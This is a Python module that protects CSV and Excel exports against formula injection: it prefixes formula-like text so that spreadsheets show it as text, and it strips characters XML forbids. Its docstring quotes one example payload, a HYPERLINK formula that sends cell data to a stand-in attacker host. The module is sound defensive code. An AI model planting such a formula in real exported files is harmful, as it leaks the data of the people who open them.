"""Cells for spreadsheets people open: text that a spreadsheet would run as a formula is
neutralised, real numbers stay numbers. Every CSV and Excel writer goes through here.

Excel, LibreOffice and Google Sheets treat a cell that begins with ``=``, ``+``, ``-`` or
``@`` as a formula (and a leading tab or carriage return can hide one), so text typed by a
user or read from an imported file, e.g. ``=HYPERLINK("http://evil.example/?d="&C3)``,
would run when a board member opens the download (OWASP: CSV injection). In CSV such text
gets a leading apostrophe, the usual way to say "this is text"; in Excel it is stored as a
text cell with the quote-prefix style, so it shows exactly as written and never runs.
"""

from __future__ import annotations

import re
from collections.abc import Iterable
from typing import Any

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
# A signed number written as text is a value, not a formula: "-3.5", "+12", "-1e3".
PLAIN_NUMBER = re.compile(r"[+-]?(\d+(\.\d*)?|\.\d+)([eE][+-]?\d+)?")
# Characters XML 1.0 cannot hold (so neither Excel nor Word files can): C0 controls but
# tab, line feed and carriage return.
NOT_IN_XML = re.compile(r"[\x00-\x08\x0b\x0c\x0e-\x1f]")


def is_formula_like(value: Any) -> bool:
    """Would a spreadsheet read this value as a formula?"""
    return (
        isinstance(value, str)
        and value.startswith(FORMULA_STARTS)
        and not PLAIN_NUMBER.fullmatch(value)
    )


def csv_cell(value: Any) -> Any:
    """A value for a CSV writer: formula-like text gets a leading apostrophe."""
    if value is None:
        return ""
    if is_formula_like(value):
        return "'" + value
    return value


def csv_row(values: Iterable[Any]) -> list[Any]:
    return [csv_cell(v) for v in values]


def xml_text(text: str) -> str:
    """Text an Excel or Word file can hold. Word's hand line break (vertical tab) and page
    break (form feed), common in pasted text, become line breaks; other controls XML
    forbids are dropped."""
    return NOT_IN_XML.sub("", text.replace("\x0b", "\n").replace("\x0c", "\n"))


def excel_row(sheet: Any, values: Iterable[Any]) -> None:
    """Append a row to an openpyxl sheet: numbers as numbers, text always as text."""
    from openpyxl.cell.cell import Cell

    cells = []
    for value in values:
        if isinstance(value, str):
            value = xml_text(value)
        cell = Cell(sheet, value=value)
        if is_formula_like(value):
            # openpyxl stores any text beginning with "=" as a formula: say it is text.
            cell.data_type = "s"
            cell.quotePrefix = True
        cells.append(cell)
    sheet.append(cells)
